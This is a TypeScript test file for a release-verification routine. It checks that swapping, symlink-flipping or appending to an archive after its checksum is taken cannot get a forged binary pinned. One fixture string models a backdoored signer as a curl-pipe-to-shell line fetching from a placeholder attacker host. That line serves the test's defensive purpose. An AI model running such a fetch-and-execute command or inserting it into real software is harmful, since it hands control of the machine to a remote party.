import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  mkdirSync,
  mkdtempSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ReleaseVerificationError, verifyRelease } from '../../src/release/verify-release.js';
import { buildZip } from '../support/zip-writer.js';

const sha = (algorithm: string, data: Buffer | string) => createHash(algorithm).update(data).digest('hex');
const GENUINE_SIGNER = '#!/bin/sh\necho "stacks-signer 4.0.2 (0000000, release build, linux [x86_64])"\n';
const BACKDOORED_SIGNER = '#!/bin/sh\ncurl -s https://attacker.example/k | sh\n';

/**
 * The archive is swapped between the SHA-512 and the reading of the binaries (the review's race, made
 * deterministic through the afterDigest seam): the pin must describe the bytes whose digest matched, or fail.
 */
describe('verifyRelease reads the archive through one descriptor', () => {
  let work: string;
  let genuine: Buffer;
  let forged: Buffer;
  let checksums: string;

  before(() => {
    work = mkdtempSync(join(tmpdir(), 'so-verify-'));
    genuine = buildZip([{ name: 'stacks-signer', content: GENUINE_SIGNER }]);
    forged = buildZip([{ name: 'stacks-signer', content: BACKDOORED_SIGNER }]);
    checksums = join(work, 'CHECKSUMS.txt');
    writeFileSync(checksums, `${sha('sha512', genuine)}  linux-glibc-x64.zip\n`);
  });
  after(() => rmSync(work, { recursive: true, force: true }));

  test('the file renamed over the archive after the digest: the pin is of the verified bytes', async () => {
    const dir = mkdtempSync(join(work, 'rename-'));
    const archivePath = join(dir, 'linux-glibc-x64.zip');
    writeFileSync(archivePath, genuine);
    writeFileSync(join(dir, 'forged.zip'), forged);
    let swapped = 0;
    const pin = await verifyRelease({
      archivePath,
      checksumsPath: checksums,
      afterDigest: () => {
        renameSync(join(dir, 'forged.zip'), archivePath);
        swapped += 1;
      },
    });
    assert.equal(swapped, 1, 'the swap happened between the digest and the zip reading');
    assert.equal(pin.binaries['stacks-signer']?.sha256, sha('sha256', GENUINE_SIGNER));
    assert.equal(pin.release.sha512, sha('sha512', genuine));
  });

  test('a symlink flipped to another archive after the digest: the pin is of the verified bytes', async () => {
    const dir = mkdtempSync(join(work, 'flip-'));
    writeFileSync(join(dir, 'genuine.zip'), genuine);
    writeFileSync(join(dir, 'forged.zip'), forged);
    const archivePath = join(dir, 'linux-glibc-x64.zip');
    symlinkSync(join(dir, 'genuine.zip'), archivePath);
    let flipped = false;
    const pin = await verifyRelease({
      archivePath,
      checksumsPath: checksums,
      afterDigest: () => {
        unlinkSync(archivePath);
        symlinkSync(join(dir, 'forged.zip'), archivePath);
        flipped = true;
      },
    });
    assert.ok(flipped);
    assert.equal(pin.binaries['stacks-signer']?.sha256, sha('sha256', GENUINE_SIGNER));
  });

  test('the archive rewritten in place after the digest: no pin, the error says it changed', async () => {
    const dir = mkdtempSync(join(work, 'append-'));
    const archivePath = join(dir, 'linux-glibc-x64.zip');
    writeFileSync(archivePath, genuine);
    await assert.rejects(
      verifyRelease({
        archivePath,
        checksumsPath: checksums,
        afterDigest: () => appendFileSync(archivePath, forged),
      }),
      (error: unknown) =>
        error instanceof ReleaseVerificationError &&
        error.message ===
          `${archivePath}: the archive changed while it was being verified (its size or modification time differ); nothing was pinned, run again on a file nothing writes to`,
    );
  });

  test('a directory given as the archive: a clear error', async () => {
    const dir = join(mkdtempSync(join(work, 'dir-')), 'linux-glibc-x64.zip');
    mkdirSync(dir);
    await assert.rejects(
      verifyRelease({ archivePath: dir, checksumsPath: checksums }),
      (error: unknown) =>
        error instanceof ReleaseVerificationError && /is a directory|not a regular file/.test(error.message),
    );
  });
});
